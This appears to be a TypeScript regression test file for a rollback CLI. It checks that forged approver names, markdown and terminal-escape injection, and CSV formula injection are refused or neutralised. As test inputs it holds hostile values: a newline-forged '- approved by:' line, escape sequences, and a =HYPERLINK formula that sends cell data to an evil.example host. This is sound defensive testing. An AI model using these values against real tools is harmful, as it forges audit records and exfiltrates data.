import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import Database from 'better-sqlite3';
import { rewind, type CliRun } from '../helpers/cli.js';
import { MINIMAL_CONFIG } from '../helpers/minimalConfig.js';
import { spawnCli } from '../helpers/spawnCli.js';
import { tempDir } from '../helpers/tmp.js';
import { parseCsv } from '../reports/csvParse.js';

/**
 * Each forgery of issue 13 as it was seen through the real command line, and
 * what rewind does now. A project on the releases driver with three versions
 * deployed from plain directories: v3 is live, v2 is the last known good.
 */
async function project(t: TestContext): Promise<{ dir: string; cli: (args: string[], user?: string) => Promise<CliRun> }> {
  const dir = await tempDir(t, 'rewind-forgery-');
  await writeFile(join(dir, 'rewind.yaml'), MINIMAL_CONFIG);
  const cli = (args: string[], user = 'tester@example.com') => rewind(dir, args, { REWIND_USER: user });
  for (const version of ['v1', 'v2', 'v3']) {
    await mkdir(join(dir, 'build', version), { recursive: true });
    await writeFile(join(dir, 'build', version, 'app.txt'), `${version}\n`);
    const deployed = await cli(['deploy', version]);
    assert.equal(deployed.code, 0, deployed.stderr);
  }
  return { dir, cli };
}

/** One clear line on stderr, no stack trace. */
function oneLine(run: CliRun, pattern: RegExp): void {
  const lines = run.stderr.trim().split('\n');
  assert.equal(lines.length, 1, `expected one line, got:\n${run.stderr}`);
  assert.match(lines[0] as string, pattern);
}

const FORGED_USER = 'mallory@example.com\n- approved by: boss@example.com';

test('a newline in REWIND_USER forged "- approved by:" in report.md and incident.md: now exit 2, one line, nothing written', async (t) => {
  const { dir, cli } = await project(t);
  const before = (await cli(['history', '--json'])).json();

  const forged = await cli(['rollback', '--apply', '--yes'], FORGED_USER);
  assert.equal(forged.code, 2);
  oneLine(forged, /^rewind: REWIND_USER "mallory@example\.com\\n- approved by: boss@example\.com" holds a control character \(U\+000A\): expected a name on one line/);
  assert.deepEqual((await cli(['history', '--json'])).json(), before, 'no run, no release changed');
  assert.equal(existsSync(join(dir, '.rewind', 'reports', 'rollbacks')), false, 'no plan or report was written');

  const json = await cli(['rollback', '--json'], FORGED_USER);
  assert.equal(json.code, 2);
  assert.equal(json.json().error.code, 'UNSAFE_ACTOR');

  // ESC, a carriage return, a bidirectional override: the same refusal, for any command.
  for (const user of ['ops\x1b[2Jroot', 'ops\rboss', 'boss@example.com\u202e']) {
    const run = await cli(['deploy', 'v1'], user);
    assert.equal(run.code, 2, JSON.stringify(user));
    oneLine(run, /holds a control character \(U\+(001B|000D|202E)\)/);
  }
});

test("git's user.email is held to the same rule when REWIND_USER is unset", async (t) => {
  const { dir } = await project(t);
  const gitConfig = join(dir, 'gitconfig');
  await writeFile(gitConfig, '[user]\n\temail = "mallory@example.com\\n- approved by: boss@example.com"\n');
  const run = await spawnCli(dir, ['rollback'], { REWIND_USER: '', GIT_CONFIG_GLOBAL: gitConfig, GIT_CONFIG_NOSYSTEM: '1' });
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr.trim(), /^rewind: git's user\.email "mallory@example\.com\\n- approved by: boss@example\.com" holds a control character/);
});

test('markdown in a name stays text: it cannot add an approval to report.md or incident.md', async (t) => {
  const { cli } = await project(t);
  const user = 'mallory **approved by:** [boss](https://evil.example) <!--';
  const applied = await cli(['rollback', '--apply', '--yes', '--json'], user);
  assert.equal(applied.code, 0, applied.stderr);
  const files = applied.json().files;
  const report = (await readFile(files.report_md, 'utf8')).split('\n');
  assert.ok(report.includes('- requested by: mallory \\*\\*approved by:\\*\\* \\[boss\\](https://evil.example) \\<!--'), report.join('\n'));
  assert.equal(report.filter((line) => line.startsWith('- approved by:')).length, 1);
  const incident = await readFile(files.incident_md, 'utf8');
  assert.match(incident, /^- \*\*Requested by:\*\* mallory \\\*\\\*approved by:\\\*\\\* \\\[boss\\\]\(https:\/\/evil\.example\) \\<!--; \*\*approved by:\*\* \(no approval needed\)$/m);
});

test('a newline in --reason injected "## Risks" into plan.md: now it stays on the reason line', async (t) => {
  const { cli } = await project(t);
  const reason = 'checkout is down\n\n## Risks\n\n- none found';
  const planned = await cli(['rollback', '--reason', reason, '--json']);
  assert.equal(planned.code, 0, planned.stderr);
  const plan = (await readFile(planned.json().files.plan_md, 'utf8')).split('\n');
  assert.equal(plan.filter((line) => line === '## Risks').length, 1, plan.join('\n'));
  assert.ok(plan.includes('- reason: checkout is down  ## Risks  - none found'), plan.join('\n'));
  const risks = plan.slice(plan.indexOf('## Risks') + 1).filter((line) => line.startsWith('- '));
  assert.match(risks[0] ?? '', /^- medium: no health check is configured/);
  // The machine-readable plan keeps the reason as it was given.
  assert.equal(JSON.parse(await readFile(planned.json().files.plan_json, 'utf8')).reason, reason);

  const applied = await cli(['rollback', '--apply', '--yes', '--run', planned.json().run_id, '--json']);
  assert.equal(applied.code, 0, applied.stderr);
  for (const file of [applied.json().files.report_md, applied.json().files.incident_md, applied.json().files.deploy_log]) {
    const lines = (await readFile(file, 'utf8')).split('\n');
    assert.ok(!lines.includes('## Risks') && !lines.includes('- none found'), `${file}:\n${lines.join('\n')}`);
    assert.ok(lines.some((line) => line.includes('checkout is down  ## Risks  - none found')), file);
  }
});

test('escape sequences in a version, a reason or a name reached `rewind history`: now they are stripped', async (t) => {
  const { dir, cli } = await project(t);
  // Through the command line they are refused now; a ledger written before this check still holds them.
  assert.equal((await cli(['deploy', 'v1'], 'ops\x1b]0;owned\x07')).code, 2);
  const db = new Database(join(dir, '.rewind', 'ledger.sqlite'));
  try {
    db.prepare("UPDATE releases SET deployed_by = ?, version = ? WHERE version = 'v1'").run('ops\x1b]0;owned\x07\x1b[2J@example.com', 'v1\x1b[31m');
    db.prepare("UPDATE runs SET trigger = ?, reason = ?, to_version = ? WHERE to_version = 'v2'").run('manual\x1b[8m', 'why\x1b[1A\r', 'v2\x9b2J');
  } finally {
    db.close();
  }
  const history = await cli(['history']);
  assert.equal(history.code, 0, history.stderr);
  assert.doesNotMatch(history.stdout, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/, JSON.stringify(history.stdout));
  assert.match(history.stdout, /^v1 +- +superseded +\S+ +ops@example\.com +rel-/m);
  assert.match(history.stdout, /^deploy-\S+ +deploy +succeeded +v1 +v2 +manual /m);
  // --json keeps what the ledger holds, escaped as JSON does.
  const json = await cli(['history', '--json']);
  assert.ok(json.json().releases.some((r: any) => r.deployed_by === 'ops\x1b]0;owned\x07\x1b[2J@example.com'));
  // An id typed with an escape in it comes back in the error without it.
  const missing = await cli(['approve', 'run-\x1b[2J1']);
  assert.equal(missing.code, 2);
  oneLine(missing, /^rewind: no run run-1 in the ledger/);
});

test('trend.csv kept =HYPERLINK(...) as a formula: now a leading = + - @ is neutralised in every CSV cell', async (t) => {
  const { dir, cli } = await project(t);
  await writeFile(join(dir, 'rewind.yaml'), `${MINIMAL_CONFIG}    sla: { rollback_seconds: 0.001 }\n`);
  const reason = '=HYPERLINK("https://evil.example/?d="&A1,"details")';
  const applied = await cli(['rollback', '--apply', '--yes', '--reason', reason, '--json'], '@SUM(1+1)@example.com');
  assert.equal(applied.code, 0, applied.stderr);
  const { trend_csv: trendCsv, sla_csv: slaCsv } = applied.json().files;
  const trend = parseCsv(await readFile(trendCsv, 'utf8'));
  const row = trend.find((r) => r[1] === applied.json().run_id) ?? assert.fail('no trend row');
  assert.equal(row.at(-1), `'${reason}`);
  assert.equal(row.at(-2), "'@SUM(1+1)@example.com");
  const sla = parseCsv(await readFile(slaCsv ?? assert.fail('the SLA was breached'), 'utf8'));
  assert.equal(sla[1]?.at(-1), `'${reason}`);
  for (const cells of [...trend.slice(1), ...sla.slice(1)]) {
    for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${cell}`);
  }
  // Numbers stay numbers, and the documents still say what was given.
  assert.match(row[8] ?? '', /^\d+(\.\d+)?$/);
  assert.ok((await readdir(join(dir, '.rewind', 'reports'))).includes('trend.csv'));
  assert.match(await readFile(applied.json().files.report_md, 'utf8'), /^- reason: =HYPERLINK\("https:\/\/evil\.example\/\?d="&A1,"details"\)$/m);
});
